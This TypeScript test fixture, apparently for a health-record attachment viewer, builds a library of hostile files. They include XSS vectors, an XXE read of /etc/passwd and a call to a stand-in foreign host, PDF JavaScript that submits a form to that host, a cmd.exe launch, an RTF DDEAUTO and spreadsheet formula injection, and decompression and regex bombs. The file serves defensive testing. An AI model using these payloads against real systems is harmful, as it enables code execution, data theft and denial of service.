import { gzipSync } from "node:zlib";
import { CANARY, FOREIGN } from "./hostile-strings";

export interface HostileDocument {
  readonly name: string;
  /** What the EHR says it is. */
  readonly content_type: string;
  /** The attachment's base64, as it stands in the Binary. */
  readonly data: string;
}

const RUN = `window.${CANARY}=1`;
/** A sentence that is read where the document can be read at all: it shows that the rest of the file was gone through. */
const SENTENCE = "Gastrointestinal stromal tumour of the stomach. Tumour size: 31 mm.";

const of = (name: string, content_type: string, body: string | Buffer): HostileDocument => ({
  name,
  content_type,
  data: Buffer.from(body as string).toString("base64"),
});

/** A one-page PDF with further objects, entries of its catalogue and of its page. */
function pdf(catalogue: string, page: string, objects: readonly string[] = []): Buffer {
  const text = `BT /F1 12 Tf 72 720 Td (${SENTENCE}) Tj ET`;
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...objects,
  ];
  let file = "%PDF-1.7\n";
  const offsets = bodies.map((body, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const start = file.length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  file += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF`;
  return Buffer.from(file, "latin1");
}

const script = `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("${FOREIGN}/p"\\);)`;

const LAUGHS = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
  "",
);

/** Files that an attacker, or a broken interface, may have left in a chart. */
export const HOSTILE_DOCUMENTS: readonly HostileDocument[] = [
  of("html-script", "text/html", `<html><body onload="${RUN}"><script>${RUN}</script><p>${SENTENCE}</p></body></html>`),
  of(
    "html-resources",
    "text/html",
    `<link rel=stylesheet href=${FOREIGN}/c><img src=${FOREIGN}/i><base href=${FOREIGN}/><p>${SENTENCE}`,
  ),
  of(
    "html-frames",
    "text/html",
    `<iframe src=${FOREIGN}/f></iframe><iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>${SENTENCE}`,
  ),
  of("html-refresh", "text/html", `<meta http-equiv=refresh content="0;url=${FOREIGN}/r"><p>${SENTENCE}</p>`),
  of("html-form", "text/html", `<form action=${FOREIGN}/s><input name=t autofocus onfocus=${RUN}></form>${SENTENCE}`),
  of(
    "html-mutation",
    "text/html",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">${SENTENCE}`,
  ),
  of(
    "html-hidden",
    "text/html",
    `<p style="display:none">No tumour rupture.</p><!-- No metastases --><p>${SENTENCE}</p>`,
  ),
  of("html-deep", "text/html", `${"<div>".repeat(50_000)}${SENTENCE}`),
  of("html-utf7", "text/html; charset=utf-7", `+ADw-script+AD4-${RUN}+ADw-/script+AD4- ${SENTENCE}`),
  of("html-utf16", "text/html", Buffer.from(`\uFEFF<script>${RUN}</script>${SENTENCE}`, "utf16le")),
  of(
    "svg-script",
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><text>${SENTENCE}</text></svg>`,
  ),
  of(
    "xhtml-script",
    "application/xhtml+xml",
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script><p>${SENTENCE}</p></html>`,
  ),
  of("xml-entity-bomb", "application/xml", `<!DOCTYPE x [<!ENTITY l0 "lol">${LAUGHS}]><x>&l9;</x>`),
  of(
    "xml-external-entity",
    "text/xml",
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "${FOREIGN}/e">]><x>&e;&f;</x>`,
  ),
  of(
    "xml-stylesheet",
    "application/xml",
    `<?xml-stylesheet href="${FOREIGN}/x.xsl" type="text/xsl"?><ClinicalDocument>${SENTENCE}</ClinicalDocument>`,
  ),
  of(
    "rtf-object",
    "application/rtf",
    `{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}${SENTENCE}}`,
  ),
  of(
    "rtf-fields",
    "text/rtf",
    `{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "${FOREIGN}/p"}{\\fldrslt x}}{\\field{\\*\\fldinst HYPERLINK "javascript:${RUN}"}{\\fldrslt y}}{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\calc.exe}}${SENTENCE}}`,
  ),
  of("rtf-deep", "application/rtf", `{\\rtf1 ${"{".repeat(100_000)}${SENTENCE}`),
  of("rtf-bin", "application/rtf", `{\\rtf1\\bin999999999 ${SENTENCE}}`),
  of(
    "pdf-javascript",
    "application/pdf",
    pdf(
      `/OpenAction << ${script} >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`,
      `/AA << /O << ${script} >> >>`,
    ),
  ),
  of(
    "pdf-links",
    "application/pdf",
    pdf(
      "",
      `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /URI /URI (${FOREIGN}/l) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:${RUN}) >> >>]`,
    ),
  ),
  of(
    "pdf-launch",
    "application/pdf",
    pdf(`/OpenAction << /S /Launch /F (cmd.exe) >>`, `/AA << /O << /S /SubmitForm /F (${FOREIGN}/s) >> >>`),
  ),
  of(
    "pdf-embedded",
    "application/pdf",
    pdf("/Names << /EmbeddedFiles << /Names [(a.html) 6 0 R] >> >>", "", [
      "<< /Type /Filespec /F (a.html) /EF << /F 7 0 R >> >>",
      `<< /Type /EmbeddedFile /Length ${RUN.length + 17} >>\nstream\n<script>${RUN}</script>\nendstream`,
    ]),
  ),
  of(
    "pdf-form",
    "application/pdf",
    pdf("/AcroForm << /XFA 6 0 R /NeedAppearances true >>", "", [
      `<< /Length ${RUN.length + 17} >>\nstream\n<script>${RUN}</script>\nendstream`,
    ]),
  ),
  of(
    "pdf-font-eval",
    "application/pdf",
    pdf("", "", [
      "<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [0.001 0 0 0.001 0 (1\\); alert\\(1\\)//)] >>",
    ]),
  ),
  of(
    "pdf-loop",
    "application/pdf",
    Buffer.from(
      "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF",
    ),
  ),
  of("pdf-html-polyglot", "application/pdf", Buffer.concat([pdf("", ""), Buffer.from(`\n<script>${RUN}</script>`)])),
  of("html-as-pdf", "application/pdf", `<script>${RUN}</script>`),
  of("pdf-as-text", "text/plain", pdf("", "")),
  of("html-as-text", "text/plain", `<script>${RUN}</script><img src=${FOREIGN}/t onerror=${RUN}> ${SENTENCE}`),
  of("executable-as-text", "text/plain", Buffer.concat([Buffer.from("MZ\u0090\u0000"), Buffer.alloc(4096, 0)])),
  of("gzip-bomb", "application/gzip", gzipSync(Buffer.alloc(20_000_000, 65))),
  of("gzip-as-text", "text/plain", gzipSync(Buffer.alloc(5_000_000, 65))),
  of("text-regex-bomb", "text/plain", `${"size size of the tumour ".repeat(20_000)}${"a".repeat(100_000)}!`),
  of("text-brackets", "text/plain", "(".repeat(500_000)),
  of("text-bidi", "text/plain", `Size \u202Emm 03\u202C. \u2066mitoses\u2069 ${SENTENCE}`),
  of(
    "text-controls",
    "text/plain",
    `\u001b[2J\u0007\u0000${SENTENCE}\r\n=HYPERLINK("${FOREIGN}/h")\r\n+1+cmd|' /C calc'!A0`,
  ),
  of("markdown", "text/markdown", `[open](javascript:${RUN}) ![x](${FOREIGN}/m) ${SENTENCE}`),
  of("javascript", "text/javascript", RUN),
  of("json-prototype", "application/json", `{"__proto__":{"${CANARY}":1},"constructor":{"prototype":{"${CANARY}":1}}}`),
  of("type-injection", `text/html"><script>${RUN}</script>`, SENTENCE),
  { name: "base64-not", content_type: "text/html", data: `<script>${RUN}</script>` },
  {
    name: "base64-twice",
    content_type: "text/html",
    data: Buffer.from(Buffer.from(`<script>${RUN}</script>`).toString("base64")).toString("base64"),
  },
  {
    name: "base64-data-url",
    content_type: "text/html",
    data: `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString("base64")}`,
  },
];
